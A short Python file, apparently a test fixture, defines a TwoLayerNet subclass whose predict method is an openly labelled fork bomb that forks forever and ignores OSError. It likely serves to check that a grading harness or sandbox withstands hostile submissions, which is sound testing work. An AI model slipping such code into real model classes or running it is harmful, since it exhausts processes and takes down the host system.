"""A fork bomb in `predict`: every process forks for ever, ignoring failures."""

import os

import working_net


class TwoLayerNet(working_net.TwoLayerNet):
    def predict(self, X):
        while True:
            try:
                os.fork()
            except OSError:
                pass
